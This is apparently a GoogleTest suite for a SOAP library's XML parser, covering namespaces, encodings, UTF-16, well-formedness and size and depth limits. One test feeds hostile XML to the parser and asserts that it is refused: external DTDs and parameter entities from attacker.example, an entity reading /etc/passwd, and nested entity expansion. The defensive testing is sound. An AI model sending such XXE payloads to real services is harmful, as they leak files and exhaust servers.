// SPDX-License-Identifier: Apache-2.0
#include "../xml_document.hpp"

#include <gtest/gtest.h>

#include <string>
#include <string_view>

namespace soap {
namespace {

std::string text_of(std::string_view bytes, std::string_view charset = {}) {
  return string_value(*parse_xml(bytes, charset)->documentElement());
}

/// Why it is not read.
std::string refusal_of_document(std::string_view bytes, std::string_view charset = {}) {
  try {
    const auto document = parse_xml(bytes, charset);
    return "it was read";
  } catch (const XmlError& error) {
    return error.what();
  }
}

std::string nested(int depth) {
  std::string text;
  for (int i = 0; i < depth; ++i) text += "<a>";
  for (int i = 0; i < depth; ++i) text += "</a>";
  return text;
}

std::string with_names(int count) {
  std::string text = "<r>";
  for (int i = 1; i < count; ++i) text += "<n" + std::to_string(i) + "/>";
  return text + "</r>";
}

TEST(XmlDocument, HasNamespaces) {
  const auto document = parse_xml("<p:a xmlns:p='urn:p' xmlns='urn:d'><b/></p:a>");
  EXPECT_EQ(document->documentElement()->namespaceURI(), "urn:p");
  EXPECT_EQ(document->documentElement()->localName(), "a");
  EXPECT_NE(child(*document->documentElement(), "urn:d", "b"), nullptr);
  EXPECT_EQ(child(*document->documentElement(), "", "b"), nullptr);
  EXPECT_EQ(child(*document->documentElement(), "urn:d", "c"), nullptr);
}

TEST(XmlDocument, HasAFirstElement) {
  const auto document = parse_xml("<a> x <!-- c --><?p i?><b/><c/></a>");
  EXPECT_EQ(first_element(*document->documentElement())->localName(), "b");
  EXPECT_EQ(first_element(*first_element(*document->documentElement())), nullptr);
}

TEST(XmlDocument, HasTheTextBelowAnElement) {
  EXPECT_EQ(text_of("<a>1<b>2<![CDATA[<3>]]></b><!-- no --><?no no?>&lt;4&#x20AC;</a>"), "12<3><4\xE2\x82\xAC");
  EXPECT_EQ(text_of("<a/>"), "");
}

TEST(XmlDocument, HasNoDtd) {
  const std::string sentence = "it has a DTD, which SOAP forbids";
  EXPECT_EQ(refusal_of_document("<!DOCTYPE a><a/>"), sentence);
  EXPECT_EQ(
      refusal_of_document("<?xml version='1.0'?><!-- x --><!DOCTYPE a SYSTEM 'http://attacker.example/x.dtd'><a/>"),
      sentence);
  EXPECT_EQ(refusal_of_document("<!DOCTYPE a [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><a>&e;</a>"), sentence);
  EXPECT_EQ(refusal_of_document("<!DOCTYPE a [<!ENTITY a '1'><!ENTITY b '&a;&a;'><!ENTITY c '&b;&b;'>]><a>&c;</a>"),
            sentence);
  EXPECT_EQ(refusal_of_document("<!DOCTYPE a [<!ENTITY % p SYSTEM 'http://attacker.example/p'>%p;]><a/>"), sentence);
}

TEST(XmlDocument, HasNoEntitiesButThoseOfXml) {
  EXPECT_EQ(text_of("<a>&amp;&lt;&gt;&quot;&apos;</a>"), "&<>\"'");
  EXPECT_EQ(refusal_of_document("<a>&nbsp;</a>").substr(0, 16), "Undefined entity");
}

TEST(XmlDocument, MayShowWhatADeclarationLooksLike) {
  EXPECT_EQ(text_of("<a><![CDATA[<!DOCTYPE a>]]></a>"), "<!DOCTYPE a>");
  EXPECT_EQ(text_of("<!-- <!DOCTYPE a> --><a/>"), "");
}

TEST(XmlDocument, IsAtMost100ElementsDeep) {
  EXPECT_EQ(refusal_of_document(nested(100)), "it was read");
  EXPECT_EQ(refusal_of_document(nested(101)), "it is nested deeper than 100 elements");
  EXPECT_EQ(refusal_of_document(nested(1'000'000)), "it is nested deeper than 100 elements");
}

TEST(XmlDocument, HasAtMost1000Names) {
  EXPECT_EQ(refusal_of_document(with_names(900)), "it was read");
  EXPECT_EQ(refusal_of_document(with_names(1100)), "it has more than 1000 different names");
  EXPECT_EQ(refusal_of_document(with_names(1100) + "<").substr(0, 14), "Unclosed token");
  std::string attributes;
  for (int i = 0; i < 1100; ++i) attributes += " n" + std::to_string(i) + "=''";
  EXPECT_EQ(refusal_of_document("<r xmlns='urn:r'><a xmlns='urn:a'" + attributes + "/>x</r>"),
            "it has more than 1000 different names");
}

TEST(XmlDocument, HasNoNamespacesOfMoreThan500Bytes) {
  EXPECT_EQ(refusal_of_document("<a xmlns='" + std::string(500, 'u') + "'/>"), "it was read");
  const std::string long_uri(501, 'u');
  for (const std::string& hidden :
       {"<a><b xmlns:p='" + long_uri + "'/></a>", "<a x='1' xmlns\n=\t\"" + long_uri + "\"/>", "<a xmlns='" + long_uri})
    EXPECT_EQ(refusal_of_document(hidden), "it has a namespace of more than 500 bytes");
  EXPECT_EQ(refusal_of_document("<a xmlns='u' b='" + long_uri + "'/>"), "it was read");
}

TEST(XmlDocument, HasNoTagsOrCommentsOfMoreThan64KiB) {
  const std::string sentence = "it has a tag or a comment of more than 64 KiB";
  const std::string long_text(1 << 20, 'x');
  EXPECT_EQ(refusal_of_document("<a b='" + long_text + "'/>"), sentence);
  EXPECT_EQ(refusal_of_document("<" + long_text + "/>"), sentence);
  EXPECT_EQ(refusal_of_document("<a><!--" + long_text + "--></a>"), sentence);
  EXPECT_EQ(refusal_of_document("<?x " + long_text + "?><a/>"), sentence);
  EXPECT_EQ(refusal_of_document("<a b='" + long_text.substr(0, 60'000) + "'/>"), "it was read");
}

TEST(XmlDocument, HasTextsOfAnyLength) {
  const std::string long_text(1 << 20, 'x');
  EXPECT_EQ(text_of("<a>" + long_text + "</a>"), long_text);
  EXPECT_EQ(text_of("<a><![CDATA[" + long_text + "]]></a>"), long_text);
}

TEST(XmlDocument, ReadsTheEncodingThatItDeclares) {
  const std::string euro = "\xE2\x82\xAC";
  const std::string umlaut = "\xC3\xA4";
  EXPECT_EQ(text_of("<?xml version='1.0' encoding='UTF-8'?><a>\xC3\xA4</a>"), umlaut);
  EXPECT_EQ(text_of("<?xml version=\"1.0\" encoding=\"iso-8859-1\"?><a>\xE4</a>"), umlaut);
  EXPECT_EQ(text_of("<?xml version='1.0' encoding='ISO-8859-15'?><a>\xA4</a>"), euro);
  EXPECT_EQ(text_of("<?xml version='1.0' encoding='Windows-1252'?><a>\x80</a>"), euro);
  EXPECT_EQ(text_of("<?xml version='1.0' encoding='US-ASCII'?><a>&#228;</a>"), umlaut);
}

TEST(XmlDocument, BelievesTheContentTypeMoreAndAByteOrderMarkMost) {
  EXPECT_EQ(text_of("<?xml version='1.0' encoding='UTF-8'?><a>\xE4</a>", "ISO-8859-1"), "\xC3\xA4");
  EXPECT_EQ(text_of("<a>\xE4</a>", "iso-8859-1"), "\xC3\xA4");
  EXPECT_EQ(text_of("\xEF\xBB\xBF<a>\xC3\xA4</a>", "ISO-8859-1"), "\xC3\xA4");
  EXPECT_EQ(text_of("<a>\xC3\xA4</a>", "utf8"), "\xC3\xA4");
  EXPECT_EQ(text_of("<?xml version='1.0' encoding='UTF-16'?><a>\xC3\xA4</a>", "utf-8"), "\xC3\xA4");
}

/// In UTF-16.
std::string wide(std::string_view ascii, bool big_endian) {
  std::string text;
  for (const char c : ascii) {
    const char both[] = {big_endian ? '\0' : c, big_endian ? c : '\0'};
    text.append(both, 2);
  }
  return text;
}

TEST(XmlDocument, IsReadInUtf16HoweverThatIsSaid) {
  for (const bool big_endian : {false, true}) {
    const std::string mark = big_endian ? "\xFE\xFF" : "\xFF\xFE";
    for (const char* xml : {"<a>x</a>", "<?xml version='1.0' encoding='UTF-16'?><a>x</a>"}) {
      const std::string bytes = wide(xml, big_endian);
      for (const char* charset : {"", "utf-16", "UTF-8", "ISO-8859-1"})
        EXPECT_EQ(text_of(mark + bytes, charset), "x") << charset;
      EXPECT_EQ(text_of(bytes), "x");
      EXPECT_EQ(text_of(bytes, "utf-16"), "x");
      EXPECT_EQ(text_of(bytes, big_endian ? "UTF-16BE" : "UTF-16LE"), "x");
    }
    EXPECT_EQ(refusal_of_document(mark + wide("<!DOCTYPE a><a/>", big_endian)), "it has a DTD, which SOAP forbids");
  }
}

TEST(XmlDocument, ThatOnlySaysThatItIsUtf16IsReadAsWhatItIs) {
  EXPECT_EQ(text_of("<?xml version='1.0' encoding='utf-16'?><a>\xC3\xA4</a>"), "\xC3\xA4");
}

TEST(XmlDocument, IsReadInTheEncodingsThatAreInUse) {
  EXPECT_EQ(text_of("<a>\xB3</a>", "windows-1250"), "\xC5\x82");
  EXPECT_EQ(text_of("<?xml version='1.0' encoding='windows-1251'?><a>\xC4</a>"), "\xD0\x94");
  EXPECT_EQ(text_of("<a>\xB3</a>", "iso-8859-2"), "\xC5\x82");
}

TEST(XmlDocument, NamesAnEncodingThatIsNotKnown) {
  EXPECT_EQ(refusal_of_document("<?xml version='1.0' encoding='UTF-7'?><a>\xE4</a>"),
            "it is in the charset \"UTF-7\", which cannot be decoded");
  EXPECT_EQ(refusal_of_document("<a>\xE4</a>", "IBM037"), "it is in the charset \"IBM037\", which cannot be decoded");
  EXPECT_EQ(refusal_of_document("<a>\xE4</a>", "\xE4\n" + std::string(100, 'x')),
            "it is in the charset \"??" + std::string(38, 'x') + "\", which cannot be decoded");
}

TEST(XmlDocument, RefusesBytesThatAreNotOfTheEncoding) {
  EXPECT_NE(refusal_of_document("<a>\xE4</a>"), "it was read");
  EXPECT_NE(refusal_of_document("<a>\xC0\xAF</a>"), "it was read");
  EXPECT_NE(refusal_of_document("<?xml version='1.0' encoding='US-ASCII'?><a>\xE4</a>"), "it was read");
}

TEST(XmlDocument, IsWellFormed) {
  for (const char* malformed :
       {"", " ", "{}", "<a>", "<a></b>", "<a/><b/>", "<a b='1' b='2'/>", "<a b=1/>", "<p:a/>", "<a>&#0;</a>",
        "<a>\x01</a>", "<html><br></html>", "<a", "<!--", "<![CDATA[", "<?xml", "<a xmlns:p=''/>", "x<a/>"})
    EXPECT_NE(refusal_of_document(malformed), "it was read") << malformed;
  EXPECT_EQ(refusal_of_document("<a></b>"), "Tag mismatch in line 1 column 5");
}

}  // namespace
}  // namespace soap
